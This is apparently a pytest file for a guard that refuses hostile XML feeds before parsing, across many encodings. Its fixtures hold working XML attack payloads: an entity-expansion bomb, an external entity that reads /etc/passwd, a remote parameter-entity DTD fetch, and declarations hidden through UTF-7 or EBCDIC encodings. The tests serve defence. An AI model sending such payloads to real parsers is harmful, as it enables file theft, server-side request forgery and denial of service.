"""Hostile XML: refused before a parser sees it, in whatever encoding."""

import pytest

from sources.errors import FileRefused
from sources.web import refuse_hostile_xml

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "ha">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<rss><channel><title>&c;</title></channel></rss>"""
OUTSIDE = """<?xml version="1.0"?>
<!-- a feed -->
<!doctype rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><title>&secret;</title></channel></rss>"""
PARAMETER = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://10.0.0.1/x.dtd"> %remote;]><r/>'
HIDDEN = '<!DOCTYPE rss PUBLIC "]>" "a>b" [<!ENTITY a "ha">]><rss/>'
LATE = '<!DOCTYPE rss><!ENTITY a "ha"><rss>&a;</rss>'
FEED = '<?xml version="1.0" encoding="{}"?><rss><channel><title>Kämpfe</title></channel></rss>'
HARMLESS_TYPE = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
    '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"/>'
)


@pytest.mark.parametrize("document", [LAUGHS, OUTSIDE, PARAMETER, HIDDEN, LATE])
@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"]
)
def test_declarations_are_refused(document, encoding):
    """In every width of characters."""
    with pytest.raises(FileRefused, match="declares entities"):
        refuse_hostile_xml(document.encode(encoding))


@pytest.mark.parametrize("name", ["UTF-7", "utf7", "cp037", "IBM037"])
def test_encodings_that_hide_declarations_are_refused(name):
    """No feed needs them."""
    with pytest.raises(FileRefused, match="encoding"):
        refuse_hostile_xml(FEED.format(name).encode())


def test_a_document_of_mainframes_is_refused():
    """It does not even begin with the sign that says less."""
    with pytest.raises(FileRefused, match="encoding"):
        refuse_hostile_xml(LAUGHS.encode("cp037"))


def test_deep_nesting_is_refused():
    """A parser that calls itself would fall over."""
    with pytest.raises(FileRefused, match="nested"):
        refuse_hostile_xml(b"<a>" * 100_000)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_feeds_are_let_through(encoding):
    """In the encodings that feeds have."""
    assert refuse_hostile_xml(FEED.format(encoding).encode(encoding)) is None


def test_the_document_type_of_old_feeds_is_let_through():
    """It declares nothing of its own, and is not loaded."""
    assert refuse_hostile_xml(HARMLESS_TYPE.encode()) is None


def test_words_in_an_entry_are_no_declaration():
    """An article may tell of entities."""
    entry = b"<rss><![CDATA[<!DOCTYPE html [ <!ENTITY a 'b'> ]>]]></rss>"
    assert refuse_hostile_xml(entry) is None


@pytest.mark.parametrize("body", [b"", b"no XML", b"<rss><title>open", b"\xff\xfe<", b"\0" * 9])
def test_what_is_no_xml_is_left_to_the_parser(body):
    """It tells what is wrong with it."""
    assert refuse_hostile_xml(body) is None


def test_a_prolog_without_an_end_is_read_in_good_time():
    """Ten megabytes of openings."""
    with pytest.raises(FileRefused):
        refuse_hostile_xml(b"<!DOCTYPE " + b"<!--" * 2_500_000)
